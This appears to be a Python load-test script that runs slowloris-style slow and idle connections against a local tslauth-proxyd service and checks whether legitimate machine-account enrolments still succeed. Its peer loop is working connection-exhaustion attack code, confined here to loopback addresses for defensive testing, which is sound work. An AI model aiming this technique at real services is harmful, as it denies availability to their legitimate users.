#!/usr/bin/env python3
"""Slow peers against tslauth-proxyd on 127.0.0.1 while a legitimate host enrols.

Usage: attack.py PORT PEERS SECONDS ENROLMENTS [ATTACKERS]
Each of the three kinds of peer (a TLS record announced and sent a byte every 3 s, a connection
that sends nothing, plain HTTP headers sent a byte every 3 s) runs PEERS connections from each
address of ATTACKERS (comma-separated; default 127.0.0.2, which may not enrol); a peer the
service cuts connects again. Meanwhile 127.0.0.1 asks for ENROLMENTS accounts one after another. Prints one line per enrolment and a summary; exits
1 when an enrolment failed. Everything ends after SECONDS (and the enrolments).
"""
import asyncio
import json
import ssl
import sys
import time

PORT, PEERS, SECONDS, ENROLMENTS = (int(a) for a in sys.argv[1:5])
ATTACKERS = (sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2").split(",")
cuts = {"record": 0, "idle": 0, "plain": 0}


async def peer(kind, attacker, end):
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", PORT, local_addr=(attacker, 0)), 5)
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(1)
            continue
        first = {"record": b"\x16\x03\x01\x02\x00", "idle": b"",
                 "plain": b"POST /v1/machine-accounts HTTP/1.1\r\n"}[kind]
        try:
            writer.write(first)
            while time.monotonic() < end:
                try:
                    data = await asyncio.wait_for(reader.read(1024), 3)
                    if not data:
                        break  # cut by the service
                except asyncio.TimeoutError:
                    pass
                if kind != "idle":
                    writer.write(b"\x01" if kind == "record" else b"X")
                    await writer.drain()
            cuts[kind] += 1
        except OSError:
            cuts[kind] += 1
        finally:
            writer.close()
        await asyncio.sleep(0.5)  # the machine is shared: no tight reconnection loop


def enrol(number):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    import http.client
    start = time.monotonic()
    try:
        connection = http.client.HTTPSConnection("127.0.0.1", PORT, context=context, timeout=60)
        body = json.dumps({"host_name": "load%03d.corp.example" % number})
        connection.request("POST", "/v1/machine-accounts", body,
                           {"Content-Type": "application/json"})
        status = connection.getresponse().status
        connection.close()
    except Exception as error:  # noqa: BLE001 - any failure is a failed enrolment
        status = "failed (%s)" % error
    return status, time.monotonic() - start


async def main():
    end = time.monotonic() + SECONDS
    tasks = [asyncio.create_task(peer(kind, attacker, end))
             for kind in cuts for attacker in ATTACKERS for _ in range(PEERS)]
    await asyncio.sleep(5)  # the peers are connected and holding what they can
    loop = asyncio.get_running_loop()
    results = []
    for number in range(ENROLMENTS):
        status, took = await loop.run_in_executor(None, enrol, number)
        results.append((status, took))
        print("enrolment %2d: %s in %.2f s" % (number, status, took), flush=True)
        await asyncio.sleep(max(0.0, (SECONDS - 10) / ENROLMENTS - took))
    await asyncio.gather(*tasks)
    good = [took for status, took in results if status == 201]
    print("enrolments: %d of %d answered 201; slowest %.2f s; peers cut and reconnected: %s"
          % (len(good), len(results), max(good) if good else 0, cuts), flush=True)
    return 0 if len(good) == len(results) else 1


sys.exit(asyncio.run(main()))
